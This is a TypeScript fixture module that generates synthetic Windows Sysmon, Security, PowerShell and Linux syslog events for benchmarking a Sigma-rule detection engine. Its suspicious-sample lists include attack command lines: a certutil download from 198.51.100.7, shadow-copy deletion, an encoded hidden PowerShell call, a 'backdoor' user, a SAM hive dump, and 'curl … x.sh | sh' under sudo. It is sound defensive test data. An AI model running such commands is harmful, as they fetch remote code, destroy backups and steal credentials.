/**
 * Events for the detection benchmark and the prefilter equivalence test.
 *
 * `mixedEvents`: a realistic, deterministic mix of what reaches `vigil.events` — ECS as the
 * Windows normalizer and Winlogbeat write it (ECS fields plus `winlog.event_data`): Sysmon
 * process creation, network, file, registry and DNS events, Security logons and 4688, PowerShell
 * script blocks; and Linux syslog (sshd, sudo, cron). Mostly benign, a few suspicious.
 *
 * `ruleShapedEvents`: events built from the rules' own detections (a value of each item of a
 * selection, placed where the pipeline reads it, in an event of the rule's logsource), half of
 * them then damaged a little. Many fire, many nearly do: the cases where a prefilter could go
 * wrong.
 */
import type { EcsEvent } from '../core/event/index.js';
import { fieldPaths, type LoadedRuleSet } from '../detections/pipelines/index.js';
import { applyModifiers } from '../detections/sigma/compile.js';
import type { SigmaValue } from '../detections/sigma/modifiers/index.js';
import { isCharClass, isWildcard } from '../detections/sigma/pattern.js';

/** mulberry32: a small deterministic PRNG. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rand = () => number;
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
const int = (r: Rand, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));

const HOSTS = ['WS001', 'WS014', 'WS042', 'WS107', 'SRV-DB01', 'SRV-FS02', 'DC01'];
const USERS = ['jdoe', 'asmith', 'bwayne', 'ckent', 'svc_backup', 'administrator'];
const SYS32 = 'C:\\Windows\\System32\\';
const BENIGN = [
  [`${SYS32}svchost.exe`, '-k netsvcs -p -s Schedule'],
  [`${SYS32}conhost.exe`, '0xffffffff -ForceV1'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '--type=renderer --field-trial-handle=1234 --lang=en-US'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '/recycle'],
  [`${SYS32}taskhostw.exe`, 'Install $(Arg0)'],
  [`${SYS32}backgroundTaskHost.exe`, '-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca'],
  ['C:\\Windows\\explorer.exe', ''],
  [`${SYS32}msiexec.exe`, '/V'],
  [`${SYS32}cmd.exe`, '/c echo %DATE% > C:\\temp\\last_run.txt'],
  [`${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`, '-NoProfile -File C:\\scripts\\inventory.ps1'],
  [`${SYS32}notepad.exe`, 'C:\\Users\\jdoe\\Documents\\notes.txt'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'fetch --all --prune'],
  [`${SYS32}wbem\\WmiPrvSE.exe`, '-secured -Embedding'],
  [`${SYS32}SearchIndexer.exe`, '/Embedding'],
  ['C:\\Program Files\\Microsoft VS Code\\Code.exe', '--type=utility --utility-sub-type=node.mojom.NodeService'],
] as const;
const SUSPICIOUS = [
  [`${SYS32}certutil.exe`, '-urlcache -split -f http://198.51.100.7/a.txt C:\\Users\\Public\\a.exe'],
  [`${SYS32}vssadmin.exe`, 'delete shadows /all /quiet'],
  [
    `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`,
    '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ],
  [`${SYS32}whoami.exe`, '/priv'],
  [`${SYS32}rundll32.exe`, 'C:\\Users\\Public\\x.dll,Start'],
  [`${SYS32}schtasks.exe`, '/create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe'],
  [`${SYS32}net.exe`, 'user backdoor P@ssw0rd! /add'],
  [`${SYS32}reg.exe`, 'save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv'],
] as const;
const PARENTS = [`${SYS32}services.exe`, 'C:\\Windows\\explorer.exe', `${SYS32}svchost.exe`, `${SYS32}cmd.exe`, `${SYS32}userinit.exe`];
const DOMAINS = [
  'www.microsoft.com',
  'login.microsoftonline.com',
  'update.googleapis.com',
  'github.com',
  'intranet.corp.example.com',
  'cdn.example.net',
];

let seq = 0;
function base(r: Rand, code: number, channel: string, provider: string, data: Record<string, string>): EcsEvent {
  const host = pick(r, HOSTS);
  seq++;
  return {
    '@timestamp': new Date(Date.UTC(2026, 10, 20, 9) + seq * 37).toISOString(),
    event: { kind: 'event', code: String(code), provider, module: 'windows' },
    host: { name: `${host}.corp.example.com`, os: { type: 'windows' } },
    winlog: {
      channel,
      provider_name: provider,
      event_id: String(code),
      computer_name: `${host}.corp.example.com`,
      record_id: String(seq),
      event_data: data,
    },
    vigil: { id: `bench-${seq}`, input: 'bench', received_at: '2026-11-20T09:00:00.000Z', parse_status: 'ok' },
  } as EcsEvent;
}

const SYSMON = 'Microsoft-Windows-Sysmon';
const SYSMON_CH = 'Microsoft-Windows-Sysmon/Operational';
const baseName = (p: string): string => p.split('\\').pop() ?? p;

/**
 * One of the thousands of programs an estate runs (vendors' tools, versioned installers): a
 * field like `process.name` has that many values, which a cache keyed by it would have to hold.
 */
function estateProgram(r: Rand): readonly [string, string] {
  const n = int(r, 0, 4999);
  return [`C:\\Program Files\\Vendor${n % 97}\\Tool${n % 13}\\tool${n}-v${n % 7}.exe`, `--job ${int(r, 1, 99)} --quiet`];
}

function processCreation(r: Rand): EcsEvent {
  const roll = r();
  const [image, args] = roll < 0.03 ? pick(r, SUSPICIOUS) : roll < 0.33 ? estateProgram(r) : pick(r, BENIGN);
  const parent = pick(r, PARENTS);
  const user = pick(r, USERS);
  const cmd = `"${image}" ${args}`.trim();
  const e = base(r, 1, SYSMON_CH, SYSMON, {
    Image: image,
    CommandLine: cmd,
    ParentImage: parent,
    ParentCommandLine: parent,
    User: `CORP\\${user}`,
    IntegrityLevel: pick(r, ['Medium', 'High', 'System']),
    CurrentDirectory: `C:\\Users\\${user}\\`,
    OriginalFileName: baseName(image).toUpperCase(),
    Hashes: `SHA256=${int(r, 1e9, 9e9).toString(16).padStart(64, 'a')},IMPHASH=${int(r, 1e9, 9e9).toString(16).padStart(32, '0')}`,
    ProcessId: String(int(r, 1000, 9000)),
  });
  Object.assign(e, {
    event: { ...e.event, category: ['process'], type: ['start'], action: 'Process creation' },
    process: {
      executable: image,
      name: baseName(image),
      command_line: cmd,
      pid: int(r, 1000, 9000),
      parent: { executable: parent, name: baseName(parent), command_line: parent },
    },
    user: { name: user, domain: 'CORP' },
  });
  return e;
}

function network(r: Rand): EcsEvent {
  const [image] = pick(r, BENIGN);
  const dst = `${int(r, 1, 223)}.${int(r, 0, 255)}.${int(r, 0, 255)}.${int(r, 1, 254)}`;
  const port = pick(r, [443, 80, 53, 445, 3389, 8080, 5985]);
  const e = base(r, 3, SYSMON_CH, SYSMON, {
    Image: image,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: '10.1.2.3',
    SourcePort: String(int(r, 49152, 65535)),
    DestinationIp: dst,
    DestinationPort: String(port),
    DestinationHostname: pick(r, DOMAINS),
  });
  Object.assign(e, {
    event: { ...e.event, category: ['network'], type: ['connection', 'start'] },
    process: { executable: image, name: baseName(image) },
    source: { ip: '10.1.2.3' },
    destination: { ip: dst, port },
    network: { transport: 'tcp', direction: 'egress' },
  });
  return e;
}

function fileOrRegistryOrDns(r: Rand): EcsEvent {
  const [image] = pick(r, BENIGN);
  const k = r();
  if (k < 0.4) {
    const path = `C:\\Users\\${pick(r, USERS)}\\AppData\\Local\\Temp\\${int(r, 1, 99999)}.tmp`;
    const e = base(r, 11, SYSMON_CH, SYSMON, { Image: image, TargetFilename: path });
    return Object.assign(e, {
      event: { ...e.event, category: ['file'], type: ['creation'] },
      file: { path },
      process: { executable: image },
    });
  }
  if (k < 0.75) {
    const key = `HKU\\S-1-5-21-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\${pick(r, ['RecentDocs', 'UserAssist', 'FeatureUsage'])}\\${int(r, 1, 999)}`;
    return base(r, 13, SYSMON_CH, SYSMON, {
      EventType: 'SetValue',
      Image: image,
      TargetObject: key,
      Details: `DWORD (0x0000000${int(r, 0, 9)})`,
    });
  }
  const q = pick(r, DOMAINS);
  const e = base(r, 22, SYSMON_CH, SYSMON, { Image: image, QueryName: q, QueryStatus: '0', QueryResults: '::ffff:93.184.216.34;' });
  return Object.assign(e, { dns: { question: { name: q } } });
}

function logon(r: Rand): EcsEvent {
  const user = pick(r, USERS);
  const ok = r() < 0.85;
  const ip = `10.1.${int(r, 0, 9)}.${int(r, 1, 254)}`;
  const e = base(r, ok ? 4624 : 4625, 'Security', 'Microsoft-Windows-Security-Auditing', {
    TargetUserName: user,
    TargetDomainName: 'CORP',
    LogonType: pick(r, ['2', '3', '3', '3', '10']),
    IpAddress: ip,
    IpPort: String(int(r, 1024, 65535)),
    WorkstationName: pick(r, HOSTS),
    LogonProcessName: pick(r, ['User32', 'NtLmSsp', 'Kerberos']),
    AuthenticationPackageName: pick(r, ['Negotiate', 'NTLM', 'Kerberos']),
    SubjectUserSid: 'S-1-5-18',
    ...(ok ? {} : { Status: '0xc000006d', SubStatus: '0xc000006a' }),
  });
  return Object.assign(e, {
    event: { ...e.event, category: ['authentication'], type: ['start'], outcome: ok ? 'success' : 'failure' },
    user: { name: user, domain: 'CORP' },
    source: { ip },
  });
}

function security4688(r: Rand): EcsEvent {
  const [image, args] = pick(r, BENIGN);
  const cmd = `"${image}" ${args}`.trim();
  const e = base(r, 4688, 'Security', 'Microsoft-Windows-Security-Auditing', {
    NewProcessName: image,
    CommandLine: cmd,
    ParentProcessName: pick(r, PARENTS),
    SubjectUserName: pick(r, USERS),
    TokenElevationType: '%%1938',
  });
  return Object.assign(e, {
    event: { ...e.event, category: ['process'], type: ['start'] },
    process: { executable: image, name: baseName(image), command_line: cmd },
  });
}

function scriptBlock(r: Rand): EcsEvent {
  const text = pick(r, [
    'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item',
    'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\reports\\users.csv',
    '$s = New-Object System.Net.WebClient; $s.DownloadString("https://intranet.corp.example.com/health")',
    'function Get-Inventory { Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version }',
  ]);
  return base(r, 4104, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', {
    ScriptBlockText: text,
    ScriptBlockId: `${int(r, 1e7, 9e7)}-aaaa-bbbb-cccc-${int(r, 1e7, 9e7)}`,
    MessageNumber: '1',
    MessageTotal: '1',
  });
}

function syslog(r: Rand): EcsEvent {
  seq++;
  const host = pick(r, ['web-01', 'web-02', 'db-01']);
  const ts = new Date(Date.UTC(2026, 10, 20, 9) + seq * 37).toISOString();
  const vigil = { id: `bench-${seq}`, input: 'bench', received_at: ts, parse_status: 'ok' };
  const k = r();
  const ip = `203.0.113.${int(r, 1, 254)}`;
  if (k < 0.5) {
    const user = pick(r, ['root', 'admin', 'ubuntu', 'deploy', 'oracle', 'alice']);
    const fail = r() < 0.7;
    const message = fail
      ? `Failed password for ${r() < 0.5 ? 'invalid user ' : ''}${user} from ${ip} port ${int(r, 30000, 60000)} ssh2`
      : `Accepted publickey for ${user} from ${ip} port ${int(r, 30000, 60000)} ssh2`;
    return {
      '@timestamp': ts,
      message,
      event: { kind: 'event', category: ['authentication'], type: ['start'], outcome: fail ? 'failure' : 'success', action: 'ssh_login' },
      host: { name: host },
      process: { name: 'sshd', pid: int(r, 1000, 9000) },
      user: { name: user },
      source: { ip },
      log: { syslog: { appname: 'sshd', facility: { code: 4, name: 'auth' } } },
      vigil,
    } as EcsEvent;
  }
  if (k < 0.8) {
    const cmd = pick(r, [
      '/usr/bin/systemctl restart nginx',
      '/usr/bin/apt-get update',
      '/bin/bash -i',
      '/usr/bin/tail -f /var/log/syslog',
      '/bin/sh -c curl -s http://198.51.100.9/x.sh | sh',
    ]);
    const user = pick(r, ['alice', 'deploy', 'bob']);
    return {
      '@timestamp': ts,
      message: `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${cmd}`,
      event: { kind: 'event', action: 'sudo', category: ['process'], type: ['start'] },
      host: { name: host },
      process: { name: 'sudo', command_line: cmd },
      user: { name: user, effective: { name: 'root' } },
      log: { syslog: { appname: 'sudo', facility: { code: 10, name: 'authpriv' } } },
      vigil,
    } as EcsEvent;
  }
  return {
    '@timestamp': ts,
    message: '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)',
    event: { kind: 'event' },
    host: { name: host },
    process: { name: 'CRON', pid: int(r, 1000, 9000) },
    log: { syslog: { appname: 'CRON', facility: { code: 9, name: 'cron' } } },
    vigil,
  } as EcsEvent;
}

/** `n` realistic events: 40% process creation, 15% network, 15% file/registry/DNS, 12% logons, 3% 4688, 5% PowerShell, 10% syslog. */
export function mixedEvents(n: number, seed = 1): EcsEvent[] {
  const r = rng(seed);
  const out: EcsEvent[] = [];
  for (let i = 0; i < n; i++) {
    const k = r();
    out.push(
      k < 0.4
        ? processCreation(r)
        : k < 0.55
          ? network(r)
          : k < 0.7
            ? fileOrRegistryOrDns(r)
            : k < 0.82
              ? logon(r)
              : k < 0.85
                ? security4688(r)
                : k < 0.9
                  ? scriptBlock(r)
                  : syslog(r),
    );
  }
  return out;
}

// --- events shaped by the rules ----------------------------------------------------------

/** A text a value would accept, or undefined when none is easy to make (regex, CIDR, …). */
function sampleOf(v: SigmaValue, r: Rand): unknown {
  switch (v.kind) {
    case 'any':
      return v.values.length ? sampleOf(pick(r, v.values), r) : undefined;
    case 'pattern':
      return v.parts
        .map((p) =>
          typeof p === 'string'
            ? p
            : isCharClass(p)
              ? (p.oneOf[0] ?? '-')
              : isWildcard(p) && p.wildcard === '?'
                ? 'x'
                : r() < 0.5
                  ? ''
                  : ' zz ',
        )
        .join('');
    case 'number':
    case 'boolean':
      return v.value;
    case 'exists':
      return v.value ? 'present' : undefined;
    default:
      return undefined;
  }
}

function setPath(event: Record<string, unknown>, path: string, value: unknown): void {
  const parts = path.split('.');
  let o = event;
  for (const p of parts.slice(0, -1)) {
    const next = o[p];
    if (next === null || typeof next !== 'object' || Array.isArray(next)) o[p] = {};
    o = o[p] as Record<string, unknown>;
  }
  o[parts[parts.length - 1] as string] = value;
}

/** Damages one string of the event: drops a character, or changes its case. */
function damage(event: Record<string, unknown>, r: Rand): void {
  const strings: [Record<string, unknown>, string][] = [];
  const walk = (o: Record<string, unknown>, depth: number): void => {
    for (const [k, v] of Object.entries(o)) {
      if (typeof v === 'string' && v.length > 1) strings.push([o, k]);
      else if (v && typeof v === 'object' && !Array.isArray(v) && depth < 6) walk(v as Record<string, unknown>, depth + 1);
    }
  };
  walk(event, 0);
  if (strings.length === 0) return;
  const [o, k] = pick(r, strings);
  const s = o[k] as string;
  const i = int(r, 0, s.length - 1);
  o[k] = r() < 0.7 ? s.slice(0, i) + s.slice(i + 1) : s.toUpperCase();
}

/**
 * `n` events shaped by random rules of the set: a selection map's items filled with accepted
 * values, placed at the path the pipeline reads, with the fields of the rule's logsource
 * mapping; half are then damaged. `seed` makes it repeatable.
 */
export function ruleShapedEvents(loaded: LoadedRuleSet, n: number, seed = 7): EcsEvent[] {
  const r = rng(seed);
  const rules = loaded.rules;
  const out: EcsEvent[] = [];
  for (let i = 0; i < n && rules.length > 0; i++) {
    const pr = pick(r, rules);
    const rule = pr.compiled.rule;
    const ls = pr.logsource.logsource;
    const event: Record<string, unknown> = {
      '@timestamp': '2026-11-20T10:00:00.000Z',
      vigil: { id: `shaped-${i}`, input: 'bench', received_at: '2026-11-20T10:00:00.000Z', parse_status: 'ok' },
    };
    const place = (field: string, value: unknown): void => {
      const paths = fieldPaths(loaded.pipeline, ls, field);
      setPath(event, paths[paths.length - 1] as string, value);
    };
    // The logsource: one alternative of each mapping entry.
    for (const entry of pr.logsource.entries) {
      const cond = pick(r, entry.conditions);
      for (const [key, value] of Object.entries(cond)) {
        const field = key.split('|')[0] as string;
        const v = Array.isArray(value) ? pick(r, value) : value;
        if (key.endsWith('|exists')) place(field, 'present');
        else place(field, v);
      }
    }
    const selections = [...rule.detection.selections.values()];
    const sel = pick(r, selections);
    if (sel.kind === 'keywords') {
      event.message = `something ${String(sampleOf({ kind: 'any', values: [] }, r) ?? '')}${String(pick(r, sel.values))} happened`;
    } else if (sel.maps.length > 0) {
      for (const item of pick(r, sel.maps).items) {
        if (item.field === null) continue;
        let plan;
        try {
          plan = applyModifiers(item, {});
        } catch {
          continue;
        }
        const values = plan.join === 'and' ? plan.values : [pick(r, plan.values)];
        const samples = values.map((v) => sampleOf(v, r)).filter((x) => x !== undefined);
        if (samples.length === 0) continue;
        place(item.field, samples.every((x) => typeof x === 'string') ? (samples as string[]).join(' ') : samples[0]);
      }
    }
    if (r() < 0.5) damage(event, r);
    out.push(event as EcsEvent);
  }
  return out;
}
